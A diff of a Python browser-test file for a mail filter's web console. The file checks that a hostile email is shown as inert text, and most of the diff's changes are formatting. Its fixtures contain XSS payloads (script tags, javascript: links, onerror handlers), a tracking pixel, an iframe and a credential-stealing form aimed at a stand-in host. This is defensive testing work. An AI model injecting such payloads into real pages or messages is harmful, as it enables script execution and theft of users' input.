@@ -38,9 +38,9 @@ HOSTILE_HTML = (
     "<html><head><style>body{background:url(http://remote.example/bg.png)}</style>"
     "<script>alert('body')</script></head><body>"
     "<p>Dear user, <a href=\"javascript:alert('link')\">click here</a> to verify.</p>"
-    "<img src=\"http://remote.example/pixel.gif\" onerror=\"alert('img')\">"
-    "<iframe src=\"http://remote.example/frame\"></iframe>"
-    "<form action=\"http://remote.example/steal\"><input name=p></form>"
+    '<img src="http://remote.example/pixel.gif" onerror="alert(\'img\')">'
+    '<iframe src="http://remote.example/frame"></iframe>'
+    '<form action="http://remote.example/steal"><input name=p></form>'
     "<p>&lt;b&gt;escaped&lt;/b&gt; and <b onmouseover=\"alert('b')\">bold</b></p></body></html>"
 )
 
@@ -50,11 +50,11 @@ def hostile_message() -> bytes:
         "From: =?utf-8?Q?=3Cscript=3Ealert(3)=3C/script=3E?= <evil@example.org>\r\n"
         "To: <bob@example.net>\r\n"
         f"Subject: {HOSTILE_SUBJECT}\r\n"
-        "Message-ID: <\"><img src=x onerror=alert(4)>@example.org>\r\n"
+        'Message-ID: <"><img src=x onerror=alert(4)>@example.org>\r\n'
         "X-Broken: =?x-unknown-charset?Q?=FF=FE?= =?utf-8?B?not*base64?= \x7f\r\n"
         f"X-Huge: {'A' * 20000}\r\n"
-        "Reply-To: <a href=\"javascript:alert(5)\">me</a>\r\n"
-        "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b\"\r\n\r\n"
+        'Reply-To: <a href="javascript:alert(5)">me</a>\r\n'
+        'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="b"\r\n\r\n'
     )
     body = (
         "--b\r\nContent-Type: text/plain; charset=bogus-charset\r\n\r\n"
@@ -117,9 +117,13 @@ def test_overview_history_and_teach(browser: WebDriver, config_for: Any, tmp_pat
     config = console_config(config_for, tmp_path, sink)
     with console_daemon(config) as api:
         send(config.listen_port, message("lunch on friday?"))
-        spammy = "Click here for your special offer. Cheap pills without prescription. You have won a prize.\r\n"
+        spammy = (
+            "Click here for your special offer. Cheap pills without prescription. You have won a prize.\r\n"
+        )
         send(config.listen_port, message("you have won", spammy), ("carol@example.net",))
-        entries = wait_for(lambda: len(api.get("/api/history")) == 2 and api.get("/api/history"), "two decisions")
+        entries = wait_for(
+            lambda: len(api.get("/api/history")) == 2 and api.get("/api/history"), "two decisions"
+        )
         browser.get(api.base + "/")
         assert browser.title.startswith("Overview")
         assert browser.find_element(By.ID, "workers-up").text == "1 of 1"
@@ -232,13 +236,17 @@ def test_a_post_without_the_csrf_token_is_refused(
         assert held_ids(api) == [held] and sink.received == []
 
 
-def test_login_is_required_off_loopback(browser: WebDriver, config_for: Any, tmp_path: Path, sink: Sink) -> None:
+def test_login_is_required_off_loopback(
+    browser: WebDriver, config_for: Any, tmp_path: Path, sink: Sink
+) -> None:
     from milter.password import write_password_file
 
     passwords = tmp_path / "console.passwd"
     write_password_file(passwords, "admin", PASSWORD)
     port = free_port()
-    config = console_config(config_for, tmp_path, sink, console=("0.0.0.0", port), console_password_file=passwords)
+    config = console_config(
+        config_for, tmp_path, sink, console=("0.0.0.0", port), console_password_file=passwords
+    )
     with console_daemon(config) as api:
         browser.delete_all_cookies()
         browser.get(api.base + "/history")
@@ -263,7 +271,7 @@ def test_a_hostile_message_is_inert_text_on_every_page(
     with console_daemon(config) as api:
         send(config.listen_port, hostile_message())
         (held,) = held_ids(api)
-        (entry,) = api.get("/api/history")
+        (entry,) = wait_for(lambda: api.get("/api/history"), "the decision in the history")
         for path in ("/", "/history", f"/history/{entry['id']}", "/quarantine", f"/quarantine/{held}"):
             browser.get(api.base + path)
             assert_inert(browser, api.base)
